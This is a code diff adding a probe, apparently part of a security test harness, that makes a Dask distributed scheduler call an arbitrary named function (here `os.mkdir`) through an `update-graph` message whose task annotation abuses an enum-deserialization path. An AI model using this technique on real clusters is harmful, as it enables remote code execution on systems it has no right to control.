@@ -10,10 +10,12 @@ from contextlib import suppress
 from pathlib import Path
 from typing import Any
 
+from dask._expr import LLGExpr
+from dask._task_spec import Task
 from distributed import Client, Future, Security
 from distributed.core import connect
-from distributed.protocol.serialize import Serialized, ToPickle, serialize
-from distributed.versions import VersionMismatchWarning
+from distributed.protocol.serialize import Serialized, ToPickle, serialize, to_serialize
+from distributed.versions import VersionMismatchWarning, get_versions
 
 TOOK_S = 10.0
 """How long an answer may take [s]; where something was refused there may be none."""
@@ -48,6 +50,7 @@ def attack(address: str, security: Mapping[str, Any], folder: Path) -> set[str]:
             client.run_on_scheduler(os.mkdir, str(folder / "function"))
         with suppress(Exception):
             client.dump_cluster_state(str(folder / "file"), write_from_scheduler=True)
+    asyncio.run(annotate(address, secured, folder / "annotation"))
     return {path.name.partition(".")[0] for path in folder.iterdir()}
 
 
@@ -57,3 +60,23 @@ async def send(address: str, security: Security, message: Mapping[str, Any]) -> 
     with suppress(OSError):
         await comm.read()
     await comm.close()
+
+
+async def annotate(address: str, security: Security, folder: Path) -> None:
+    """Send a task whose annotation names a function: those are called with the key of the task.
+
+    No pickle is needed for that, since a message may name anything that a module of Dask's has imported.
+    """
+    key = str(folder)
+    expression = Serialized(*serialize(to_serialize(LLGExpr({key: Task(key, str)})), on_error="raise"))
+    named = {"__Enum__": True, "__module__": "distributed.utils", "__name__": "os", "name": "mkdir"}
+    task = {"op": "update-graph", "expr_ser": expression, **_REST, "keys": {key}, "annotations": {"x": named}}
+    comm = await connect(address, timeout=TOOK_S, **security.get_connection_args("client"))
+    await comm.write({"op": "register-client", "client": "other", "versions": get_versions(), "reply": False})
+    await comm.read()
+    await comm.write([task])
+    said = asyncio.ensure_future(comm.read())
+    while not (folder.exists() or said.done()):  # where it is refused, the other side hangs up
+        await asyncio.wait({said}, timeout=0.05)
+    comm.abort()
+    await asyncio.gather(said, return_exceptions=True)
